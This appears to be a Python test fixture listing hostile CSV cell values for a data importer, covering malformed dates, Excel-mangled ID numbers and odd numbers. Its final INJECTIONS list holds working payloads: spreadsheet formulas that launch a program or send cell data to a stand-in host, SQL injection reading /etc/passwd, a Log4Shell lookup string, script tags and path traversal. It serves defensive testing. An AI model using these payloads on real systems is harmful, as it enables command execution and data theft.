"""Hostile deliveries: what stands in a cell of a CSV."""

from __future__ import annotations

from hostile_case import ID, Case, one

WIDE = {ord(letter): chr(ord(letter) + 0xFEE0) for letter in "0123456789X"}
WRONG = ID[:16] + str((int(ID[16]) + 1) % 10) + ID[17:]


def _injected(name: str, text: str) -> Case:
    written = '"' + text.replace('"', '""') + '"' if set(text) & {",", '"', "\n"} else text
    return one(name, "remark", written, text)


DAYS = [
    one("a day in eight digits", "birth_date", "20150101", "20150101"),
    one("a day with slashes and a time", "birth_date", "2015/1/1 8:30", "2015/1/1 8:30"),
    one("a day in Chinese", "birth_date", "2015年1月1日", "2015年1月1日"),
    one("a day as Excel's serial number", "birth_date", "42005", "42005"),
    one("a day as a serial number with a time", "birth_date", "42005.5", "42005.5", aside=1, birth_date__date=1),
    one("a day that is not", "birth_date", "2015-02-30", "2015-02-30", aside=1, birth_date__date=1),
    one("the 29th of February in a common year", "birth_date", "20150229", "20150229", aside=1, birth_date__date=1),
    one("a day the American way", "birth_date", "1/31/2015", "1/31/2015", aside=1, birth_date__date=1),
    one("a day in two digits of a year", "birth_date", "15-01-01", "15-01-01", aside=1, birth_date__date=1),
    one("a day of noughts", "birth_date", "0000-00-00", "0000-00-00", aside=1, birth_date__date=1),
    one("a day too wide for its cell", "birth_date", "########", "########", aside=1, birth_date__date=1),
    one("a day in an unclosed form", "birth_date", "2015-01-01x", "2015-01-01x", aside=1, birth_date__date=1),
    one("a day in hanzi", "birth_date", "二〇一五年一月一日", "二〇一五年一月一日", aside=1, birth_date__date=1),
    one("no day", "birth_date", "", None, aside=1, birth_date__filled=1),
    one("a day that Excel wrapped", "birth_date", '"=""2015-01-01"""', "2015-01-01"),
    one("a month of which the rest is noise", "entered", "201909x", "201909x", entered__month=1),
    one("a thirteenth month", "entered", "201913", "201913", entered__month=1),
    one("a month as a day", "entered", "2019-09-01", "2019-09-01"),
]

IDS = [
    one("wrapped as Excel likes it", "id_number", f'"=""{ID}"""', ID),
    one("wrapped without quotes around", "id_number", f'="{ID}"', ID),
    one("behind an apostrophe", "id_number", f"'{ID}", f"'{ID}", id_number__id_form=1),
    one("in full-width digits", "id_number", ID.translate(WIDE), ID.translate(WIDE)),
    one("with spaces within", "id_number", f"{ID[:6]} {ID[6:14]} {ID[14:]}", f"{ID[:6]} {ID[6:14]} {ID[14:]}"),
    one("rounded by Excel to 15 digits", "id_number", ID[:15] + "000", ID[:15] + "000", id_number__id_lost=1),
    one("as a power of ten", "id_number", "4.00000201501E+17", "4.00000201501E+17", id_number__id_lost=1),
    one("as a short power of ten", "id_number", "4E+17", "4E+17", id_number__id_lost=1),
    one("of a disability certificate", "id_number", f"{ID}11", f"{ID}11"),
    one("of 15 digits", "id_number", "400000150101001", "400000150101001", id_number__id_form=1),
    one("of 17 characters", "id_number", ID[:17], ID[:17], id_number__id_form=1),
    one("with one wrong digit", "id_number", WRONG, WRONG, id_number__id_check=1),
    one(
        "with a day that is not",
        "id_number",
        ID[:10] + "0230" + ID[14:],
        ID[:10] + "0230" + ID[14:],
        id_number__id_date=1,
    ),
    one("of a registry's own making", "id_number", "999" + ID[3:], "999" + ID[3:], id_number__id_form=1),
    one("masked", "id_number", ID[:6] + "********" + ID[14:], ID[:6] + "********" + ID[14:], id_number__id_form=1),
    one("of a hundred thousand digits", "id_number", "4" * 100_000, "4" * 100_000, id_number__id_form=1),
    one("no number", "id_number", "", None),
]

NUMBERS = [
    one("a number with thousands separators", "marks", '"1,00"', "1,00"),
    one("a number in full-width digits", "marks", "９", "９"),
    one("a number with a decimal point and nothing behind", "marks", "9.", "9."),
    one("a number beyond its range", "marks", "99999", "99999", marks__number_range=1),
    one("a number of a thousand digits", "marks", "9" * 1000, "9" * 1000, marks__number=1),
    one("infinity", "marks", "Infinity", "Infinity", marks__number=1),
    one("no number in Excel's words", "marks", "#N/A", "#N/A", marks__number=1),
    one("a power of ten for a number", "marks", "1e1", "1e1", marks__number=1),
    one("a hexadecimal number", "marks", "0x10", "0x10", marks__number=1),
    one("an unknown code", "sex_code", "未知性别", "未知性别", sex_code__known_code=1),
    one("a code for its name", "sex_code", "1", "1"),
    one("NULL as a word", "name", "NULL", "NULL"),
    one("a name of nothing but spaces", "name", "\u3000 \u00a0", None, aside=1, name__filled=1),
    one("a name of nothing but a wrapping", "name", '"="""""', None, aside=1, name__filled=1),
]

INJECTIONS = [
    _injected("a formula that starts a program", "=cmd|' /C calc'!A0"),
    _injected("a formula that calls home", '=HYPERLINK("http://example.invalid/?"&A1,"点击")'),
    _injected("a formula behind an at sign", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _injected("a formula behind a plus", "+1+cmd|'/C calc'!A0"),
    _injected("a formula behind a minus", "-2+3+cmd|'/C calc'!A0"),
    _injected("SQL", "'); drop table rows; --"),
    _injected("SQL with a copy", "x' || (select read_text('/etc/passwd')) || '"),
    _injected("a template", "{{ 7*7 }}{% raw %}${jndi:ldap://example.invalid/a}{name}%s%n"),
    _injected("a script", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    _injected("a path", "../../../../etc/passwd"),
    _injected("a regular expression that never ends", "(" * 200 + "a+" + ")+" * 200),
]

CASES: list[Case] = [*DAYS, *IDS, *NUMBERS, *INJECTIONS]
